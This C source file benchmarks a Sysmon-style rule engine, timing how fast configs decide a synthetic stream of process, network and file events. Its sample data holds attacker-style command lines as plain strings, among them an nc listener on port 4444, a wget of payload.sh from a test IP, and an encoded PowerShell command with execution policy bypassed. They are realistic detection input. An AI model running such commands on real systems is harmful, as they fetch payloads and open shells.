/*
 * Benchmark of the rule engine's hot path (rules_decide, src/rules/): loads
 * real configs with the config loader, generates a synthetic but realistic
 * stream of ProcessCreate, NetworkConnect and FileCreate events up front
 * (Linux- and Windows-looking paths and command lines, ports, IPs; most of
 * them uninteresting, as in real life), then decides the stream repeatedly
 * for about a second of CPU time per run and prints, per config, the median
 * of 5 runs: events/s on one core (per second of this thread's CPU time, so
 * that other work on the machine does not skew it), ns/event and how many
 * events were logged.
 *
 * Two figures per config: "in cache" decides each window of 512 events 16
 * times before moving on, as the pipeline decides an event it has just built
 * (still in the CPU cache); "from memory" walks the whole 64K-event stream
 * (~80 MB), so every event's text is a cache miss: a worst case.
 *
 *   build/bench/rules [config.xml ...]
 *
 * Without arguments: the tutorial config and SwiftOnSecurity's.  Figures
 * only, no pass/fail (the targets are in the rule engine's task).
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "config/config.h"
#include "rules/rules.h"
#include "schema/event.h"
#include "util/clock.h"
#include "util/strbuf.h"

#define STREAM_EVENTS 65536
#define WINDOW_EVENTS 512
#define WINDOW_PASSES 16
#define RUNS 5
#define RUN_SECONDS 1.0

static const char *const default_configs[] = {
	"../shared/configs/tutorial/tutorial.xml",
	"../shared/configs/swiftonsecurity/sysmonconfig-export.xml",
};

/* xorshift64*: deterministic, so every run sees the same stream. */
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545f4914f6cdd1dull;
}

static unsigned pick(unsigned n)
{
	return (unsigned)(rng() % n);
}

#define PICK(array) (array)[pick(sizeof(array) / sizeof((array)[0]))]

struct program {
	const char *image;
	const char *args;       /* appended to the image in CommandLine */
};

static const struct program linux_programs[] = {
	{ "/usr/bin/bash", "-c 'for f in *.log; do gzip \"$f\"; done'" },
	{ "/usr/bin/ls", "--color=auto -la /var/log" },
	{ "/usr/bin/cat", "/proc/meminfo" },
	{ "/usr/bin/grep", "-r --include=*.conf Listen /etc/apache2" },
	{ "/usr/bin/python3", "/usr/lib/python3/dist-packages/unattended_upgrade.py" },
	{ "/usr/lib/systemd/systemd-journald", "" },
	{ "/usr/sbin/cron", "-f" },
	{ "/usr/bin/curl", "-s -o /dev/null https://deb.debian.org/debian/dists/bookworm/InRelease" },
	{ "/usr/bin/git", "fetch --prune origin" },
	{ "/usr/bin/dpkg", "--status-fd 23 --configure --pending" },
	{ "/usr/bin/sed", "-e s/foo/bar/g /tmp/input.txt" },
	{ "/usr/bin/awk", "{print $1} /var/log/syslog" },
	{ "/usr/sbin/sshd", "-D -R" },
	{ "/usr/bin/sudo", "-u postgres psql -c 'select 1'" },
	{ "/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/15/main" },
	{ "/usr/bin/nc", "-lvnp 4444" },
	{ "/tmp/.x/kworker", "--daemon" },
	{ "/usr/bin/wget", "http://198.51.100.7/payload.sh -O /tmp/p.sh" },
};

static const struct program windows_programs[] = {
	{ "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule" },
	{ "C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1" },
	{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
	  "--type=renderer --field-trial-handle=1234,5678 --lang=en-US --renderer-client-id=42" },
	{ "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "--type=utility" },
	{ "C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:App.AppXmtcan0h2tfbfy7k9kmpmn2t6ejyk8gv.mca" },
	{ "C:\\Windows\\System32\\cmd.exe", "/c echo hello > C:\\Users\\alice\\out.txt" },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	  "-NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
	{ "C:\\Windows\\explorer.exe", "" },
	{ "C:\\Windows\\System32\\SearchProtocolHost.exe", "Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1" },
	{ "C:\\Windows\\System32\\taskhostw.exe", "KEYROAMING" },
	{ "C:\\Program Files\\Internet Explorer\\iexplore.exe", "SCODEF:1234 CREDAT:17410" },
	{ "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,Start" },
	{ "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding" },
	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "/n C:\\Users\\alice\\Documents\\report.docx" },
};

static const char *const linux_users[] = { "root", "alice", "postgres", "www-data" };
static const char *const windows_users[] = {
	"NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "CONTOSO\\alice", "CONTOSO\\bob",
};
static const char *const linux_dirs[] = { "/", "/root", "/home/alice", "/var/lib/postgresql", "/tmp" };
static const char *const linux_files[] = {
	"/tmp/tmp.%u", "/var/log/nginx/access.log.%u", "/home/alice/.cache/mozilla/firefox/cache2/entries/%X",
	"/var/lib/dpkg/updates/%04u", "/etc/cron.d/job%u", "/home/alice/Downloads/report%u.pdf",
	"/tmp/.x/payload%u.sh", "/usr/local/bin/tool%u",
};
static const char *const windows_files[] = {
	"C:\\Users\\alice\\AppData\\Local\\Temp\\%X.tmp", "C:\\Windows\\Prefetch\\CMD.EXE-%X.pf",
	"C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_%06x",
	"C:\\Windows\\Temp\\MpCmdRun%u.log", "C:\\Users\\alice\\Downloads\\invoice%u.exe",
	"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run%u.lnk",
	"C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\doc%u.lnk",
	"C:\\Windows\\System32\\Tasks\\Update%u",
};
static const unsigned ports[] = {
	443, 443, 443, 443, 80, 80, 53, 53, 53, 123, 22, 8080, 5353, 3389, 445, 389, 25, 1900, 4444,
};

static void set(struct event *ev, const char *name, const char *value)
{
	if (event_set_name(ev, name, value) < 0) {
		fprintf(stderr, "bench/rules: event %u has no field %s\n", ev->schema->id, name);
		exit(1);
	}
}

static void setf(struct event *ev, const char *name, const char *fmt, unsigned a)
{
	char buf[512];

	snprintf(buf, sizeof(buf), fmt, a);
	set(ev, name, buf);
}

static void common_fields(struct event *ev, const struct program *p, bool windows)
{
	char buf[512];

	set(ev, "UtcTime", "2026-11-26 06:48:36.983");
	snprintf(buf, sizeof(buf), "{3d1219c7-%04x-6b07-%04x-36f34e560000}", pick(65536), pick(65536));
	set(ev, "ProcessGuid", buf);
	setf(ev, "ProcessId", "%u", 300 + pick(60000));
	set(ev, "Image", p->image);
	set(ev, "User", windows ? PICK(windows_users) : PICK(linux_users));
}

static void make_process_create(struct event *ev, bool windows)
{
	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);
	const struct program *parent = windows ? &PICK(windows_programs) : &PICK(linux_programs);
	char buf[1024];

	event_reset(ev, 1);
	common_fields(ev, p, windows);
	snprintf(buf, sizeof(buf), "%s%s %s", windows ? "\"" : "", p->image, p->args);
	set(ev, "CommandLine", buf);
	set(ev, "CurrentDirectory", windows ? "C:\\Windows\\system32\\" : PICK(linux_dirs));
	set(ev, "LogonGuid", "{3d1219c7-0000-0000-0000-000000000000}");
	set(ev, "LogonId", windows ? "0x3e7" : "0");
	set(ev, "TerminalSessionId", windows ? "0" : "4294967295");
	set(ev, "IntegrityLevel", windows ? "System" : "no level");
	set(ev, "Hashes", "SHA256=27125f0331490b7fbf4da11f2bd913ce1b94e071367b2fa8e535ce8c5526e29c");
	set(ev, "ParentProcessGuid", "{3d1219c7-d643-6b07-9d6b-c60cef550000}");
	setf(ev, "ParentProcessId", "%u", 1 + pick(60000));
	set(ev, "ParentImage", parent->image);
	set(ev, "ParentCommandLine", parent->image);
	set(ev, "ParentUser", windows ? PICK(windows_users) : PICK(linux_users));
}

static void make_network_connect(struct event *ev, bool windows)
{
	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);
	char buf[64];

	event_reset(ev, 3);
	common_fields(ev, p, windows);
	set(ev, "Protocol", pick(5) ? "tcp" : "udp");
	set(ev, "Initiated", "true");
	set(ev, "SourceIsIpv6", "false");
	snprintf(buf, sizeof(buf), "10.0.%u.%u", pick(4), 1 + pick(254));
	set(ev, "SourceIp", buf);
	set(ev, "SourceHostname", "-");
	setf(ev, "SourcePort", "%u", 32768 + pick(28000));
	set(ev, "SourcePortName", "-");
	set(ev, "DestinationIsIpv6", "false");
	snprintf(buf, sizeof(buf), "%u.%u.%u.%u", 1 + pick(223), pick(256), pick(256), 1 + pick(254));
	set(ev, "DestinationIp", buf);
	set(ev, "DestinationHostname", "-");
	setf(ev, "DestinationPort", "%u", PICK(ports));
	set(ev, "DestinationPortName", "-");
}

static void make_file_create(struct event *ev, bool windows)
{
	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);

	event_reset(ev, 11);
	common_fields(ev, p, windows);
	setf(ev, "TargetFilename", windows ? PICK(windows_files) : PICK(linux_files), pick(100000));
	set(ev, "CreationUtcTime", "2026-11-26 06:48:36.983");
}

/* 20% ProcessCreate, 40% NetworkConnect, 40% FileCreate; half Windows. */
static void make_stream(struct event *events, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		unsigned kind = pick(10);
		bool windows = pick(2);

		event_init(&events[i]);
		if (kind < 2)
			make_process_create(&events[i], windows);
		else if (kind < 6)
			make_network_connect(&events[i], windows);
		else
			make_file_create(&events[i], windows);
	}
}

/* CPU time of this thread: events/s per core, unaffected by other work
 * sharing the machine (which only preempts us). */
static double now_seconds(void)
{
	return (double)clock_ns(CLOCK_THREAD_CPUTIME_ID) / 1e9;
}

static int compare_doubles(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

/* One pass over the stream: every event decided once (from memory) or
 * WINDOW_PASSES times, window by window (in cache).  Returns the number of
 * decisions and adds the logged ones to *LOGGED. */
static size_t decide_stream(const struct rules *rules, const struct event *events, size_t n,
			    bool in_cache, size_t *logged)
{
	size_t decided = 0;

	for (size_t start = 0; start < n; start += WINDOW_EVENTS) {
		size_t end = start + WINDOW_EVENTS < n ? start + WINDOW_EVENTS : n;
		int passes = in_cache ? WINDOW_PASSES : 1;

		if (!in_cache)
			end = n;
		for (int pass = 0; pass < passes; pass++)
			for (size_t i = start; i < end; i++)
				*logged += rules_decide(rules, &events[i], NULL);
		decided += (end - start) * (size_t)passes;
		if (!in_cache)
			break;
	}
	return decided;
}

static void measure(const struct rules *rules, const struct event *events, size_t n,
		    bool in_cache)
{
	double rates[RUNS];

	for (int run = 0; run < RUNS; run++) {
		size_t decided = 0, logged = 0;
		double start = now_seconds(), elapsed;

		do {
			decided += decide_stream(rules, events, n, in_cache, &logged);
			elapsed = now_seconds() - start;
		} while (elapsed < RUN_SECONDS);
		rates[run] = (double)decided / elapsed;
	}
	qsort(rates, RUNS, sizeof(rates[0]), compare_doubles);
	double median = rates[RUNS / 2];
	printf("  %-12s %10.0f events/s on one core, %7.1f ns/event (median of %d runs; min %.0f, max %.0f)\n",
	       in_cache ? "in cache:" : "from memory:", median, 1e9 / median, RUNS, rates[0],
	       rates[RUNS - 1]);
}

static void bench_config(const char *path, const struct event *events, size_t n)
{
	struct strbuf err = STRBUF_INIT;
	struct sysmon_config *config = config_load_file(path, &err);
	size_t logged[30] = { 0 }, total[30] = { 0 }, all = 0;

	if (!config) {
		fprintf(stderr, "bench/rules: %s\n", strbuf_str(&err));
		strbuf_release(&err);
		return;
	}
	strbuf_release(&err);

	for (size_t i = 0; i < n; i++) {
		bool yes = rules_decide(config->rules, &events[i], NULL);
		unsigned id = events[i].schema->id;

		total[id]++;
		logged[id] += yes;
		all += yes;
	}
	printf("%s\n  logged %zu of %zu events (%.1f%%): ProcessCreate %zu/%zu, "
	       "NetworkConnect %zu/%zu, FileCreate %zu/%zu\n",
	       path, all, n, 100.0 * (double)all / (double)n, logged[1], total[1], logged[3],
	       total[3], logged[11], total[11]);
	measure(config->rules, events, n, true);
	measure(config->rules, events, n, false);
	config_free(config);
}

int main(int argc, char **argv)
{
	struct event *events = calloc(STREAM_EVENTS, sizeof(struct event));

	if (!events) {
		fprintf(stderr, "bench/rules: out of memory\n");
		return 1;
	}
	make_stream(events, STREAM_EVENTS);
	printf("stream: %d events (20%% ProcessCreate, 40%% NetworkConnect, 40%% FileCreate; "
	       "half Linux-, half Windows-looking)\n", STREAM_EVENTS);
	if (argc > 1) {
		for (int i = 1; i < argc; i++)
			bench_config(argv[i], events, STREAM_EVENTS);
	} else {
		for (size_t i = 0; i < sizeof(default_configs) / sizeof(default_configs[0]); i++)
			bench_config(default_configs[i], events, STREAM_EVENTS);
	}
	for (size_t i = 0; i < STREAM_EVENTS; i++)
		event_free(&events[i]);
	free(events);
	return 0;
}
